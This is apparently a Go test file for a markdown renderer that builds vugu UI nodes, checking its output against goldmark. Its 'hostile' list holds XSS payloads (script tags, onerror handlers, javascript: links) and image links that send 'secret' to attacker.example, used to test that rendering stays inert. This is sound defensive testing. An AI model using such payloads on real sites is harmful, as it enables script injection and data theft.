package markdown

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"

	"palate/build/demo"
	"palate/ui/node"

	"github.com/vugu/vugu"
)

// outline writes a node tree as indented tags, attributes and texts.
func outline(n *vugu.VGNode) string {
	var b strings.Builder
	writeOutline(&b, n, 0)
	return b.String()
}

func writeOutline(b *strings.Builder, n *vugu.VGNode, depth int) {
	b.WriteString(strings.Repeat("›", depth))
	if n.Type == vugu.TextNode {
		b.WriteString(strings.ReplaceAll(n.Data, "\n", `\n`) + "\n")
		return
	}
	b.WriteString("<" + n.Data)
	for _, a := range n.Attr {
		if a.Key == "href" || a.Key == "start" || a.Key == "data-chip" {
			b.WriteString(" " + a.Key + "=" + a.Val)
		}
	}
	b.WriteString(">\n")
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		writeOutline(b, c, depth+1)
	}
}

func markdownOutline(body string) string {
	root := node.Element("div")
	Append(root, body)
	return outline(root)
}

func TestMarkdownBecomesNodes(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"headings start below the page's own", "# One\n## Two", "<div>\n <h3>\n  One\n <h4>\n  Two\n"},
		{"left out levels make no holes", "### Three\n# One\n### Three", "<div>\n <h3>\n  Three\n <h3>\n  One\n <h4>\n  Three\n"},
		{"soft and hard breaks", "a\nb  \nc", "<div>\n <p>\n  a\n  \\n\n  b\n  <br>\n  c\n"},
		{"emphasis", "*a* **b** ~~c~~", "<div>\n <p>\n  <em>\n   a\n   \n  <strong>\n   b\n   \n  <del>\n   c\n"},
		{"a list that starts at 3", "3. x", "<div>\n <ol start=3>\n  <li>\n   x\n"},
		{"a task list", "- [x] done", "<div>\n <ul>\n  <li>\n   ☑ \n   done\n"},
		{"code keeps its text", "```go\na < b\n```", "<div>\n <pre>\n  <code>\n   a < b\\n\n"},
		{"a table", "|a|b|\n|-|-:|\n|1|2|", "<div>\n <div>\n  <table>\n   <tr>\n    <th>\n     a\n    <th>\n     b\n   <tr>\n    <td>\n     1\n    <td>\n     2\n"},
		{"a footnote", "x[^1]\n\n[^1]: note", "<div>\n <p>\n  x\n  <sup>\n   [1]\n <ol>\n  <li>\n   <p>\n    note\n"},
		{"entities and escapes", `&amp; \* &#65;`, "<div>\n <p>\n  & * A\n"},
		{"a web link", "[a](https://example.com/x)", "<div>\n <p>\n  <a href=https://example.com/x>\n   a\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			// Runs of words may come as several text nodes; what counts is what they say.
			if got, want := squeeze(markdownOutline(tt.in)), squeeze(deepened(tt.want)); got != want {
				t.Errorf("Markdown(%q) =\n%s\nwant\n%s", tt.in, got, want)
			}
		})
	}
}

// deepened writes the blanks before each line as an outline does.
func deepened(s string) string {
	lines := strings.Split(s, "\n")
	for i, line := range lines {
		text := strings.TrimLeft(line, " ")
		lines[i] = strings.Repeat("›", len(line)-len(text)) + text
	}
	return strings.Join(lines, "\n")
}

// squeeze joins text nodes that follow each other at one depth and drops blanks in texts: how a
// reader cuts its texts is its own business.
func squeeze(s string) string {
	var out []string
	depths := []int{}
	for _, line := range strings.Split(s, "\n") {
		text := strings.TrimLeft(line, "›")
		depth := strings.Count(line, "›") - strings.Count(text, "›")
		isText := !strings.HasPrefix(text, "<")
		if isText {
			text = strings.NewReplacer(" ", "", "\t", "", `\n`, "").Replace(text)
		}
		if text == "" {
			continue
		}
		if n := len(out); n > 0 && isText && depths[n-1] == depth && !strings.HasPrefix(strings.TrimLeft(out[n-1], "›"), "<") {
			out[n-1] += text
			continue
		}
		out, depths = append(out, strings.Repeat("›", depth)+text), append(depths, depth)
	}
	return strings.Join(out, "\n")
}

// hostile are answers that try to run a script or to call out. The positive control below shows
// that the check sees such a thing.
var hostile = []string{
	`<script>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`,
	`text <svg onload=alert(1)> more`,
	`[click](javascript:alert(1))`,
	`[click](JaVaScRiPt:alert(1))`,
	"[click](java\tscript:alert(1))",
	`[click](data:text/html,<script>alert(1)</script>)`,
	`[click](vbscript:msgbox)`,
	`<javascript:alert(1)>`,
	`![x](https://attacker.example/?q=secret)`,
	`![x](javascript:alert(1))`,
	`![x][r]

[r]: https://attacker.example/?q=secret`,
	`<a href="javascript:alert(1)">x</a>`,
	`<style>@import url(https://attacker.example)</style>`,
	`<iframe src=https://attacker.example></iframe>`,
	`<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
	`<template><img src=x onerror=alert(1)></template>`,
}

var inert = map[string]bool{
	"div": true, "p": true, "a": true, "span": true, "em": true, "strong": true, "del": true, "code": true,
	"pre": true, "h3": true, "h4": true, "h5": true, "h6": true, "ul": true, "ol": true, "li": true, "br": true,
	"hr": true, "blockquote": true, "table": true, "tr": true, "th": true, "td": true, "sup": true,
}

// dangerOf names what in a tree could run or load without a click, "" for nothing.
func dangerOf(n *vugu.VGNode) string {
	if n.InnerHTML != nil {
		return "inner HTML"
	}
	if n.Type == vugu.ElementNode && !inert[n.Data] {
		return "element " + n.Data
	}
	for _, a := range n.Attr {
		switch {
		case a.Key == "href" && !safeAddress(a.Val):
			return "href " + a.Val
		case a.Key == "src" || a.Key == "style" || strings.HasPrefix(a.Key, "on"):
			return "attribute " + a.Key
		}
	}
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		if d := dangerOf(c); d != "" {
			return d
		}
	}
	return ""
}

func TestHostileAnswersStayText(t *testing.T) {
	for _, body := range hostile {
		root := node.Element("div")
		Append(root, body)
		if d := dangerOf(root); d != "" {
			t.Errorf("Markdown(%q) holds %s", body, d)
		}
	}
	control := node.With(node.Element("div"), node.Element("img", "src", "https://attacker.example"))
	if dangerOf(control) == "" {
		t.Error("the check does not see a planted image")
	}
}

func FuzzMarkdown(f *testing.F) {
	for _, body := range hostile {
		f.Add(body)
	}
	f.Add(strings.Repeat("> ", 500) + "deep")
	f.Add("| a |\n|---|\n| b")
	f.Fuzz(func(t *testing.T, body string) {
		root := node.Element("div")
		Append(root, body)
		if d := dangerOf(root); d != "" {
			t.Errorf("Markdown(%q) holds %s", body, d)
		}
		checkTexts(t, root)
	})
}

// checkTexts checks that every text node fits vugu's buffer and is cut between runes.
func checkTexts(t *testing.T, n *vugu.VGNode) {
	t.Helper()
	if n.Type == vugu.TextNode && len(n.Data) > node.MaxText {
		t.Errorf("text node of %d bytes, want at most %d", len(n.Data), node.MaxText)
	}
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		checkTexts(t, c)
	}
}

func TestLongTextIsCutBetweenRunes(t *testing.T) {
	body := strings.Repeat("héllo 🙂 中文 ", 4000)
	root := node.Element("div")
	node.AppendText(root, body)
	var back strings.Builder
	for c := root.FirstChild; c != nil; c = c.NextSibling {
		if !utf8.ValidString(c.Data) {
			t.Fatalf("a text node is cut inside a rune: %q", c.Data[len(c.Data)-8:])
		}
		back.WriteString(c.Data)
	}
	checkTexts(t, root)
	if back.String() != body {
		t.Error("the text nodes together are not the text")
	}
}

// TestMarkdownAgreesWithALibrary holds our reader against goldmark on all the demo's outputs.
func TestMarkdownAgreesWithALibrary(t *testing.T) {
	n := 0
	for line := range bytes.Lines(demo.Prompts) {
		var p struct {
			ID      string
			Outputs []struct{ Model, Text string }
		}
		if err := json.Unmarshal(line, &p); err != nil {
			t.Fatal(err)
		}
		for _, o := range p.Outputs {
			n++
			if got, want := squeeze(markdownOutline(o.Text)), squeeze(oracleOutline(o.Text)); got != want {
				t.Errorf("%s, %s:\n%s\ngoldmark reads\n%s", p.ID, o.Model, got, want)
			}
		}
	}
	if n < 200 {
		t.Errorf("only %d outputs were compared", n)
	}
}

// TestMarkdownSamples holds it against goldmark on texts that bend the rules.
func TestMarkdownSamples(t *testing.T) {
	for _, body := range []string{
		"a *b **c** d* e", "**a *b* c**", "*a **b*** c", "***both***", "a_b_c and _d_", "2 * 3 * 4", "**not closed", "*a*b*c*",
		"`a *b*`", "``a ` b``", "`open", "[a *b*](https://example.com) c", "[x](https://example.com/a_(b))", "[x][y]\n\n[y]: https://example.com",
		"- a\n- b\n\n- c", "- a\n  - b\n    - c\n- d", "1. a\n2. b\n   - c\n\n   more\n3. d", "- a\n\n  b", "* a\n+ b", "- a\nlazy",
		"> a\nb\n\nc", "> - a\n> - b", "a\n===\nb\n---", "a\n- b", "a\n1. b", "a\n2. b", "---\n***", "    code\n    more\n\ntext", "```\nopen",
		"~~~py\na\n~~~\nb", "- ```\n  x\n  ```", "|a|b|\n|:-:|--|\n|1|\n|2|3|4|\nafter", "~~gone~~ ~one~", `\*a\* \\`, "a\\\nb", "b&gt; &copy; &nosuch;",
		"<https://example.com> <b>", "![a *b*](https://example.com/x.png)", "# a #\n## b ##c", "####### seven", "#no", "1) a\n2) b", "- [ ] a\n- [x] b\n- c",
	} {
		if got, want := squeeze(markdownOutline(body)), squeeze(oracleOutline(body)); got != want {
			t.Errorf("%q:\n%s\ngoldmark reads\n%s", body, got, want)
		}
	}
}
